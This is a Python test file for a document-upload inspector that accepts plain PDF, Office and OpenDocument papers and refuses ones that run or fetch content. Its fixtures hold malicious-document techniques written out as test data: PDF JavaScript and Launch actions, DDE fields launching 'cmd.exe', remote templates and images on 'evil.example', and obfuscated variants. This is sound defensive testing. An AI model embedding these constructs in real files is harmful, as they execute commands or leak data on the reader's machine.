"""What a file would run or fetch is found by reading it as its program does, however it is written."""

import io
import time

import pikepdf
import pytest

from meetings.papers import reading
from meetings.papers.reading import read_apart, read_here
from meetings.papers.uploads import MEGABYTE, UploadRefused, inspect
from tests.meetings.papers.files import PDF, TEXT, fields, office, open_document, packed, pdf, relationships

RUN = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
CHART = "word/charts/_rels/chart1.xml.rels"


def verdict(content, name="draft.docx", read=read_here):
    try:
        return inspect(io.BytesIO(content), name, most_bytes=25 * MEGABYTE, read=read).extension
    except UploadRefused as refused:
        return refused.code


@pytest.mark.parametrize(
    ("content", "name"),
    [
        (b"\xef\xbb\xbf" + PDF, "draft.pdf"),
        (b"Received by the registry\r\n" + PDF, "draft.pdf"),
        (b"\x00\x01\x02" + PDF, "draft.pdf"),
        (PDF + b"\0" * 4096, "draft.pdf"),
        (PDF.replace(b"startxref", b"startxxxx"), "draft.pdf"),
        (pdf(packed=True), "draft.pdf"),
        (pdf("<< /Font << /JS << /Type /Font /Subtype /Type1 >> >> >>"), "draft.pdf"),
        (pdf("<< /S /URI /URI (https://example.org/) >>"), "draft.pdf"),
        (pdf("<< /S /GoToR /F (annex.pdf) /D [ 0 /Fit ] >>"), "draft.pdf"),
        (pdf(Names="<< /EmbeddedFiles << /Names [] >> >>"), "draft.pdf"),
        (b"A text that speaks of %PDF-1.7 only.\n", "draft.txt"),
        (office("docx", **{"word/_rels/document.xml.rels": relationships(("hyperlink", "https://x.org", "External"))}),
         "draft.docx"),
        (office("docx", **{"word/media/blank.bmp": b"\0" * 40 * MEGABYTE}), "draft.docx"),
        (office("docx", **{"word/document.xml": fields("{", " PAGEREF ", "link", "|", "}")}), "draft.docx"),
        (office("docx", **{CHART: relationships(("package", "../embeddings/a.xlsx")),
                           "word/embeddings/a.xlsx": office("xlsx")}), "draft.docx"),
        (open_document("odt", **{"styles.xml": '<o><image href="Pictures/a.png"/><scripts/></o>',
                                 "meta.xml": '<o><template href="" title="x"/></o>'}), "draft.odt"),
    ],
)  # fmt: skip
def test_a_paper_that_does_nothing_is_taken_however_it_was_written(content, name):
    assert verdict(content, name) == name.rpartition(".")[2]


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (pdf("<</JS(app.alert\\(1\\))/S/JavaScript>>"), "active"),
        (pdf("<</JS(x)/S/JavaScr#69pt>>"), "active"),
        (pdf(RUN, packed=True), "active"),
        (pdf(OpenAction=RUN), "active"),
        (pdf(f"<< /Annots [ << /A [ {RUN} ] >> ] >>"), "active"),
        (pdf(Names=f"<< /JavaScript << /Names [ (a) {RUN} ] >> >>"), "active"),
        (pdf("<< /S /Rendition /JS (x) >>"), "active"),
        (pdf("<< /S /Launch /F (cmd.exe) >>"), "active"),
        (pdf("<< /S /SubmitForm /F (https://example.org/) >>"), "active"),
        (pdf(OpenAction="<< /S /GoToR /F (\\\\\\\\host\\\\share) /D [ 0 /Fit ] >>"), "external"),
        (pdf("<< /S /GoToR /F << /Type /Filespec /UF (//host/share) >> /D [ 0 /Fit ] >>"), "external"),
        (pdf("<< /S /Thread /F (https://example.org/a.pdf) /D 0 >>"), "external"),
        (pdf("<< /Ref << /F (//host/share) /Page 0 >> >>"), "external"),
        (pdf("<< /Type /Filespec /F (a.exe) /EF << /F (x) >> >>"), "embedded"),
        (pdf("<< /Type /Annot /Subtype /FileAttachment >>"), "embedded"),
        (pdf("<< /Type /Annot /Subtype /RichMedia >>"), "embedded"),
        (pdf(AcroForm="<< /XFA [ (template) (x) ] >>"), "form"),
        (pdf(password="secret"), "locked"),
    ],
)
def test_what_a_pdf_would_do_is_refused_however_it_is_written(content, code):
    assert verdict(content, "draft.pdf") == code


def test_a_pdf_whose_page_stands_in_another_file_is_refused():
    made = pikepdf.open(io.BytesIO(PDF))
    made.pages[0].Contents = made.make_stream(b"", F="//host/share")
    buffer = io.BytesIO()
    made.save(buffer)
    assert verdict(buffer.getvalue(), "draft.pdf") == "external"


def related(kind, target, *mode):
    return {"word/_rels/settings.xml.rels": relationships((kind, target, *mode))}


@pytest.mark.parametrize(
    ("parts", "code"),
    [
        (related("attachedTemplate", "https://evil.example/t.dotm", "External"), "external"),
        (related("image", "https://evil.example/seen.png", "External"), "external"),
        (related("oleObject", "file:///x", "External"), "external"),
        (related("subDocument", "other.docx"), "external"),
        (related("oleObject", "embeddings/oleObject1.bin"), "embedded"),
        (related("package", "embeddings/a.xlsx"), "embedded"),
        (related("control", "activeX/activeX1.xml"), "embedded"),
        (related("aFChunk", "chunk.html"), "embedded"),
        (related("vbaProject", "project.bin"), "macros"),
        ({CHART: relationships(("package", "../embeddings/a.xlsx")),
          "word/embeddings/a.xlsx": office("xlsx", **{"xl/vbaProject.bin": b"x"})}, "macros"),
        ({"word/document.xml": fields("{", "DDEAUTO", ' c:\\\\cmd.exe "/k calc"', "}")}, "active"),
        ({"word/header1.xml": fields("{", " D", "D", "E cmd", "|", "}")}, "active"),
        ({"word/document.xml": fields("{", "{", "QUOTE 68 68 69", "|", "}", " cmd", "}")}, "active"),
        ({"word/document.xml": '<?xml version="1.0"?><w:z xmlns:w="x"><w:fldSimple w:instr=" DDE x"/></w:z>'}, "active"),
        ({"word/document.xml": fields("{", "DDE x", "}").replace("UTF-8", "UTF-16").encode("utf-16")}, "active"),
        ({"word/document.xml": '<!DOCTYPE w [<!ENTITY a "b">]><instrText>&a;</instrText>'}, "damaged"),
        ({"word/document.xml": b"<w>" + b"0" * 40 * MEGABYTE + b"</w>"}, "bomb"),
    ],
)  # fmt: skip
def test_what_an_office_file_would_run_or_fetch_is_refused(parts, code):
    assert verdict(office("docx", **parts)) == code


@pytest.mark.parametrize(
    ("parts", "code"),
    [
        (
            {
                "xl/externalLinks/externalLink1.xml": '<externalLink><ddeLink ddeService="cmd"/></externalLink>'
            },
            "active",
        ),
        (
            {
                "xl/_rels/workbook.xml.rels": relationships(
                    ("externalLink", "externalLinks/externalLink1.xml")
                )
            },
            "external",
        ),
        ({"xl/_rels/workbook.xml.rels": relationships(("connections", "connections.xml"))}, "external"),
    ],
)
def test_a_workbook_that_asks_other_programs_is_refused(parts, code):
    assert verdict(office("xlsx", **parts), "budget.xlsx") == code


def test_a_slide_that_starts_a_program_when_it_is_pointed_at_is_refused():
    slide = '<?xml version="1.0"?><s xmlns:a="a"><a:hlinkMouseOver action="{}"/></s>'
    opens = [slide.format(action) for action in ("ppaction://hlinksldjump", "&#112;paction://program?x")]
    found = [verdict(office("pptx", **{"ppt/slides/slide1.xml": each}), "talk.pptx") for each in opens]
    assert found == ["pptx", "active"]


@pytest.mark.parametrize(
    ("parts", "code"),
    [
        ({"content.xml": "<o><dde-source/></o>"}, "active"),
        ({"content.xml": '<o><event-listener href="vnd.sun.star.script:x"/></o>'}, "active"),
        ({"content.xml": '<o><section-source href="https://evil.example/x.odt"/></o>'}, "external"),
        ({"content.xml": '<o><object-ole href="./Object 1"/></o>'}, "embedded"),
        ({"content.xml": '<o><a href="vnd.sun.star.script:x?language=Basic"/></o>'}, "active"),
        ({"content.xml": '<o><floating-frame href="https://evil.example/"/></o>'}, "external"),
        ({"content.xml": '<o><cell-range-source href="//evil/x.ods"/></o>'}, "external"),
        ({"content.xml": """<o><c formula='of:=DDE("cmd";"/c calc";"x")'/></o>"""}, "active"),
        ({"meta.xml": '<o><auto-reload href="https://evil.example/"/></o>'}, "external"),
        ({"META-INF/manifest.xml": "<m><encryption-data/></m>"}, "locked"),
    ],
)
def test_an_open_document_that_runs_or_fetches_is_refused(parts, code):
    assert verdict(open_document("odt", **parts), "draft.odt") == code


def test_an_office_file_with_a_password_is_told_as_locked():
    content = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512 + "EncryptedPackage".encode("utf-16-le")
    assert verdict(content) == "locked"


def test_two_parts_of_one_name_are_two_files_for_two_readers():
    content = office("docx", **{"word/a.xml": "<a/>", "WORD/A.XML": "<b/>"})
    assert verdict(content) == "damaged"


def test_a_large_text_costs_less_than_a_second():
    content = "Проект коммюнике, пункт первый.\n".encode() * (24 * MEGABYTE // 57)
    began = time.process_time()
    assert verdict(content, "draft.txt") == "txt"
    assert time.process_time() - began < 1


def test_the_process_that_reads_answers_as_the_reader_does():
    found = [
        verdict(content, name, read_apart)
        for content, name in [(PDF, "draft.pdf"), (pdf(RUN), "draft.pdf"), (office("docx"), "draft.docx")]
    ]
    assert found == ["pdf", "active", "docx"]


@pytest.mark.parametrize(("limit", "value"), [("PROCESSOR_SECONDS", 1), ("MEMORY", 20 * MEGABYTE)])
def test_a_file_that_costs_too_much_ends_its_own_process_and_is_refused(monkeypatch, limit, value):
    costly = "lambda kind, file: b'x' * 10**9 * any(iter(int, 1))"
    loop = f"import meetings.papers.reading as r; r.{limit} = {value}; r.read_here = {costly}; r.main()"
    monkeypatch.setattr(reading, "PROGRAM", loop)
    assert verdict(PDF, "draft.pdf", read_apart) == "unread"


def test_what_is_no_text_is_told_by_its_controls():
    assert (verdict(TEXT + b"\x07", "draft.txt"), verdict(packed({"a": "x"}))) == ("type", "type")
